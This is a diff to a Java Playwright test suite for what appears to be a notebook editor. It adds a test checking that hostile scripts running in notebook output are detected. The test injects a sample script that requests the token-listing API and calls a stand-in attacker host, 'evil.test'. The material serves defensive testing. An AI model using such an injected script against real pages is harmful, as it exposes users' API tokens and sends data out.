@@ -9,7 +9,6 @@ import com.microsoft.playwright.BrowserContext;
 import com.microsoft.playwright.Frame;
 import com.microsoft.playwright.Page;
 import com.microsoft.playwright.options.ColorScheme;
-import com.microsoft.playwright.options.LoadState;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.util.ArrayList;
@@ -30,6 +29,7 @@ import org.junit.jupiter.api.io.TempDir;
 @Tag("slow")
 final class HostileOutputTest {
     private static final int CELLS_OF_A_NOTEBOOK = 10;
+    private static final double SETTLED = 750;
 
     @TempDir
     static Path dataDir;
@@ -78,6 +78,23 @@ final class HostileOutputTest {
         assertThat(seen).isEmpty();
     }
 
+    /** The other test would pass as well if nobody looked. */
+    @Test
+    void whatAScriptOfThePageDoesIsSeen() throws Exception {
+        Person person = Person.signIn(installation);
+        try (BrowserContext profile = chromium.profile(installation.url(), ColorScheme.LIGHT)) {
+            Page page = profile.newPage();
+            watch(profile, page);
+            signIn(page);
+            page.addInitScript("if (location.pathname.startsWith('/editor')) { window.pwned = 1;"
+                    + " fetch('/api/2.0/token/list?pwn'); fetch('http://evil.test/').catch(() => {}); }");
+            show(person, page, List.of(Installation.JSON.readTree("{\"mime\":\"cell/markdown\",\"content\":\"x\"}")));
+        }
+        assertThat(seen)
+                .anyMatch(what -> what.contains("/api/2.0/token/list?pwn"))
+                .anyMatch(what -> what.contains("a script in the application"));
+    }
+
     private void watch(BrowserContext profile, Page page) {
         profile.route(
                 address -> !address.startsWith(installation.url() + "/")
@@ -113,7 +130,9 @@ final class HostileOutputTest {
         long id = person.sdk().workspace().getStatus(path).getObjectId();
         page.navigate("/editor/notebooks/" + id);
         page.getByTestId("cell").nth(some.size() - 1).waitFor();
-        page.waitForLoadState(LoadState.NETWORKIDLE);
+        page.waitForFunction("() => document.querySelector('.markdown-raw') === null");
+        // That nothing happens cannot be awaited: what wants to act has this long after everything is drawn.
+        page.waitForTimeout(SETTLED);
         if (Boolean.TRUE.equals(page.evaluate("() => 'pwned' in window"))) {
             seen.add("a script in the application");
         }
